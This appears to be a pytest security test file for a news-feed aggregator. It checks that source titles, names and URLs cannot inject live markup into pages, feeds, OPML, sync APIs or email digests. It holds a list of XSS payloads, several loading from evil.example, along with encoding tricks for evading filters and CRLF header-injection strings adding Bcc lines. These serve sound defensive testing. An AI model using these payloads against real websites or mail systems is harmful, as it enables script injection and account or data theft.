"""Live markup in what sources say: no output lets any through to a reader that takes titles and names for HTML.

Each attack stands in every text that a source gives (title, author, names, tags, addresses), and every document that is
made of it is read as its readers do: the strings of a feed as HTML, once and after further decoding.
"""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from dataclasses import replace
from email import message_from_bytes
from email.policy import default
from functools import cache
from html import unescape
from html.parser import HTMLParser
from typing import Final
from urllib.parse import quote
from xml.etree import ElementTree as ET

import lxml.html
import pytest
from publishing import NOON, READER, SITE, MemoryStore, make_health, make_item, source

from aggregator.daemon import mailer
from aggregator.model import Copy, Enclosure, Item, OwnFeed, Reader, Subscription
from aggregator.publish import feeds
from aggregator.publish.channel import Channel, compose
from aggregator.publish.diagnostics import status_channel
from aggregator.publish.greader import READING_LIST, GoogleReader, StreamRequest
from aggregator.publish.listing import Listing, Place
from aggregator.publish.lists import Lists
from aggregator.publish.markup import heading, legal
from aggregator.publish.opml import render_feeds, render_sources
from aggregator.publish.own_feeds import write
from aggregator.publish.pages import Pages
from aggregator.publish.pages.search_page import SearchRequest
from aggregator.publish.rendering import Rendering

#: what a browser would run or load, in tags whole, unclosed, nested, and in places where parsers differ
LIVE: Final = (
    "<script>alert(2)</script>",
    "<SCRIPT SRC=//evil.example/x.js>",
    "<script\t/x>alert`2`</script\n>",
    "<img src=x onerror=alert(2)>",
    "<img src=x onerror=alert(2) ",
    "<img/src/onerror=alert(2)//",
    "<iframe src=javascript:alert(2)>",
    "<iframe srcdoc='&lt;script&gt;alert(2)&lt;/script&gt;'>",
    "<svg onload=alert(2)>",
    "<svg><animate onbegin=alert(2) attributeName=x>",
    "<math href=javascript:alert(2)>click",
    "<a href='jav&#x09;ascript:alert(2)'>open</a>",
    "<a title='>' href=javascript:alert(2)>open",
    "<details open ontoggle=alert(2)>",
    "<body/onpageshow=alert(2)>",
    "<input autofocus onfocus=alert(2)>",
    "<object data=data:text/html;base64,PHNjcmlwdD4=>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><button>Sign in",
    "</title><script>alert(2)</script>",
    "</h3></a></li></ol><script>alert(2)</script>",
    "<!--<script>--><img src=x onerror=alert(2)>",
    "<![CDATA[<img src=x onerror=alert(2)>]]>",
    "]]><script>alert(2)</script>",
    "<?xml-stylesheet href='javascript:alert(2)'?>",
    "<!ENTITY x 'y'><x onclick=alert(2)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(2)>'>",
    "<template><script>alert(2)</script></template>",
    "<xmp><p title='</xmp><svg/onload=alert(2)>'>",
    "<x-y onmouseover=alert(2) style=display:block>over",
    "<video><source onerror=alert(2)>",
    "<marquee onstart=alert(2)>",
    "<isindex type=image src=1 onerror=alert(2)>",
    "<<b>img src=x onerror=alert(2)>",
)


def _digits(text: str) -> str:
    return "".join(f"&#{ord(letter)};" for letter in text)


#: how a source may write it, so that it comes out somewhere on the way: as it is, escaped once to four times, by
#: numbers with and without an end, with characters within that some program leaves out
WRITTEN: Final[dict[str, Callable[[str], str]]] = {
    "plain": lambda text: text,
    "escaped": lambda text: text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"),
    "twice": lambda text: text.replace("&", "&amp;amp;").replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    "four times": lambda text: text.replace("<", "&amp;amp;amp;lt;"),
    "decimal": lambda text: _digits(text[:3]) + text[3:],
    "hexadecimal": lambda text: text.replace("<", "&#X003C;"),
    "no semicolon": lambda text: text.replace("<", "&lt"),
    "number without end": lambda text: text.replace("<", "&#000060"),
    "half escaped": lambda text: text.replace("<", "&amp&#35;60;"),
    "control": lambda text: text.replace("<", "<\x01").replace("&", "\x0b&"),
    "surrogate": lambda text: text.replace("<", "<\ud83d"),
    "soft hyphen": lambda text: text.replace("<", "<\xad"),
    "no width": lambda text: text.replace("<", "\u200d<\u200b\ufeff"),
    "marks of direction": lambda text: text.replace("<", "<\u202e\u2066"),
    "letters that are not seen": lambda text: text.replace("<", "<\u034f\u3164\ufff9\x9f\U000e0041"),
    "within the reference": lambda text: text.replace("<", "&l\u2060t\xad;"),
    "numbers within": lambda text: text.replace("<", "&#\u200b6\u034f0;"),
    "after words": lambda text: f"5 < 6 && 7 > 3 {text} <3",
}
#: what programs take out of a text before they show it: it stands for nothing, or reorders, or has no letter
UNSEEN: Final = re.compile(
    "[\x00-\x1f\x7f-\x9f\xad\u034f\u061c\u115f\u1160\u180b-\u180f\u200b-\u200f\u202a-\u202e\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff"
    "\ufff9-\ufffb\U000e0000-\U000e0fff]"
)
ATTACKS: Final = [
    pytest.param(make(live), id=f"{name} {n}") for n, live in enumerate(LIVE) for name, make in WRITTEN.items()
]
#: a few of each for the documents that take longer to make
SOME: Final = [attack for n, attack in enumerate(ATTACKS) if n % 7 == 0]


def as_shown(text: str) -> Iterator[str]:
    """The text as readers take it: at once, decoded once or more often, without what is not seen, or in ASCII only."""
    for _ in range(6):
        yield text
        yield UNSEEN.sub("", text)
        yield text.encode("ascii", "ignore").decode()
        text = unescape(text)


@cache
def assert_inert(text: str) -> None:
    for shown in dict.fromkeys(as_shown(text)):
        root = lxml.html.fragment_fromstring(shown, create_parent="div")
        assert not root.xpath("//*[not(self::div)] | //comment() | //processing-instruction()"), shown
        found = Tags()
        found.feed(shown)
        found.close()
        assert found.names == [], shown


class Tags(HTMLParser):
    """The tags of a document, with the attributes that load or run something."""

    def __init__(self) -> None:
        super().__init__()
        self.names: list[str] = []
        self.live: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.names.append(tag)
        for name, value in attrs:
            scheme = re.sub(r"[\s\x00-\x20]", "", unescape(value or "")).partition(":")[0].lower()
            if name.startswith("on") or name == "srcdoc" or scheme in {"javascript", "data", "vbscript"}:
                self.live.append(f"{tag} {name}={value}")

    def handle_endtag(self, tag: str) -> None:
        self.names.append(f"/{tag}")

    def handle_comment(self, data: str) -> None:
        self.names.append("!--")

    def handle_decl(self, decl: str) -> None:
        self.names.append("!")

    def unknown_decl(self, data: str) -> None:
        self.names.append("![")

    def handle_pi(self, data: str) -> None:
        self.names.append("?")


def evil_item(text: str) -> Item:
    """An item all of whose texts are this one, and whose addresses are what runs."""
    ref = replace(
        source(1), name=text, url=f"https://s1.example/?{quote(text, errors='replace')}", home="javascript:alert(2)"
    )
    other = replace(source(2), name=text, home="data:text/html,x")
    copies = tuple(
        Copy(source=one, entry_id=text, title=text, url=url, published=NOON, first_seen=NOON, rule="canonical-url")
        for one, url in ((ref, "javascript:alert(2)"), (other, "https://s2.example/<script>"))
    )
    files = (
        Enclosure(url="javascript:alert(2)", type="audio/mpeg", duration_s=60),
        Enclosure(url=" JaVaScRiPt:alert(2)", type="text/html"),
        Enclosure(url="https://s1.example/a.mp3", type=text),
    )
    return make_item(
        1, title=text, author=text, text=text, section="World", summary_html="", content_html="", categories=(text,),
        source=ref, url="javascript:alert(2)", copies=copies, enclosures=files, image_url="javascript:alert(2)",
        language=text[:20],
    )  # fmt: skip


def evil_site(text: str) -> Rendering:
    """A site with such an item, another beside it, and an own feed of that name."""
    store = MemoryStore([evil_item(text), make_item(2)])
    store.healths = [make_health(store.shown["item1"].source), make_health(source(2))]
    store.related_ids = {"item2": ["item1"], "item1": ["item2"]}
    site = replace(SITE, feeds=(OwnFeed(name="own", title=text, match='title ~ "."'),))
    shown = store.store()
    return Rendering(store=shown, site=site, lists=Lists(shown, site), pages=Pages(site))


@pytest.mark.parametrize("text", ATTACKS)
def test_a_title_opens_no_tag(text: str) -> None:
    assert_inert(heading(text))
    assert_inert(f"{heading(text)} – {heading(text)}")


def test_there_are_attacks_enough() -> None:
    assert len(ATTACKS) > 500


def listing(text: str, item: Item) -> Listing:
    place = Place(item=item, views=2, reasons=(text,), related=(item,))
    return Listing(
        kind="related", title=text, description=text, path="/item/item1/related", page="/item/item1", places=(place,)
    )


@pytest.mark.parametrize("text", SOME)
def test_feeds_hold_no_live_title_name_or_address(text: str) -> None:
    channel = compose(listing(text, evil_item(text)), replace(SITE, title=text))
    for document in (feeds.atom(channel), feeds.rss(channel), feeds.atom(status(text)), feeds.rss(status(text))):
        for element in ET.fromstring(document).iter():
            name = element.tag.rpartition("}")[2]
            if name in {"content", "encoded"}:
                assert_no_live_html(element.text or "")
            elif name in {"summary", "description"} and element.text:
                assert_inert(unescape(element.text))
            elif element.text:
                assert_inert(element.text)
            for value in element.attrib.values():
                assert_inert(value)
                assert not re.match(r"\s*(javascript|data|vbscript):", value, re.IGNORECASE), value
    assert_strings(json.loads(feeds.json_feed(channel)))


def status(text: str) -> Channel:
    return status_channel([make_health(replace(source(1), name=text), state="failing")], SITE)


def assert_strings(value: object, key: str = "") -> None:
    """Every string of a JSON document, the HTML of items for what it is."""
    if isinstance(value, dict):
        for name, member in value.items():
            assert_strings(member, name)
    elif isinstance(value, list):
        for member in value:
            assert_strings(member, key)
    elif isinstance(value, str):
        assert not re.match(r"\s*(javascript|data|vbscript):", value, re.IGNORECASE), value
        if key in {"content_html", "content"}:
            assert_no_live_html(value)
        else:
            assert_inert(value)


def assert_no_live_html(html: str) -> None:
    found = Tags()
    found.feed(html)
    found.close()
    assert found.live == []
    assert {name.strip("/") for name in found.names} <= {"p", "br", "a", "b", "h4", "ul", "ol", "li", "div"}


@pytest.mark.parametrize("text", SOME)
def test_opml_holds_no_live_name(text: str) -> None:
    documents = [
        render_feeds([(text, f"{SITE.url}/feeds/x.atom", SITE.url)], replace(SITE, title=text)),
        render_sources([Subscription(url="https://s1.example/feed", section=text, name=text)], title=text),
    ]
    for document in documents:
        for element in ET.fromstring(document).iter():
            for value in (element.text or "", *element.attrib.values()):
                assert_inert(value)


@pytest.mark.parametrize("text", SOME)
def test_clients_that_synchronise_get_no_live_title(text: str) -> None:
    reader = GoogleReader(evil_site(text), Reader(name="anna", token=READER, created=NOON))
    for told in (reader.contents(READING_LIST, StreamRequest()), reader.subscriptions(), reader.tags()):
        assert_strings(told)


@pytest.mark.parametrize("text", SOME)
def test_a_digest_has_one_subject_and_no_live_markup(text: str) -> None:
    feed = OwnFeed(name="own", title=f"{text}\r\nBcc: all@evil.example\r\n\r\n<script>")
    digest = write(feed, [Place(item=evil_item(f"{text}\nBcc: x@evil.example"))], site=SITE, due=NOON, now=NOON)
    assert_inert(digest.title)
    assert_no_live_html(digest.html)
    server = mailer.MailServer(host="127.0.0.1", port=25, tls="none", sender="news@site.example")
    made = mailer.compose(
        digest, server=server, to="ann@site.example", authority="site.example", site=SITE.url, language="en"
    )
    read = message_from_bytes(made.as_bytes(), policy=default)
    headers = [name.lower() for name, _ in read.items()]
    assert len(headers) == len(set(headers))
    assert not {"bcc", "cc", "reply-to"} & set(headers)
    assert_inert(str(read["Subject"]))
    html = read.get_body(("html",))
    assert html is not None
    found = Tags()
    found.feed(html.get_content())
    assert found.live == []
    assert not {"script", "img", "iframe", "svg", "style", "form", "base", "object", "b"} & set(found.names)


def pages_of(text: str) -> dict[str, str]:
    """Every kind of page of such a site."""
    site = evil_site(text)
    pages = site.site_pages(NOON)
    item = pages.store.items(["item1"])[0]
    made = {
        "/": pages.front(),
        "/latest": pages.latest(),
        "/section": pages.section("world"),
        "/ranking": pages.ranking(),
        "/story": pages.story("item1"),
        "/source": pages.source("s1"),
        "/sources": pages.sources(),
        "/search": pages.search(SearchRequest(words=legal(text))),
        "/item": pages.article(item),
        "/feeds": pages.feeds(),
        "/feeds/own": pages.listing(pages.lists.own(site.site.feeds[0])),
        "/status": pages.status(),
        "/about": pages.about(),
        "/nowhere": pages.error(404, text, path=f"/section/{text}"),
    }
    return {path: page.html for path, page in made.items() if not isinstance(page, str)}


HARMLESS: Final = cache(lambda: pages_of("A title"))


@pytest.mark.parametrize("text", SOME[::4])
def test_pages_show_it_as_text(text: str) -> None:
    """Each page has the elements that it has with a harmless title, and nothing in it runs."""
    for path, page in pages_of(text).items():
        found, harmless = Tags(), Tags()
        found.feed(page)
        harmless.feed(HARMLESS()[path])
        assert found.live == [], path
        assert set(found.names) <= set(harmless.names) | {"mark", "/mark", "p", "/p", "bdi", "/bdi"}, path
        assert found.names.count("script") == harmless.names.count("script"), path
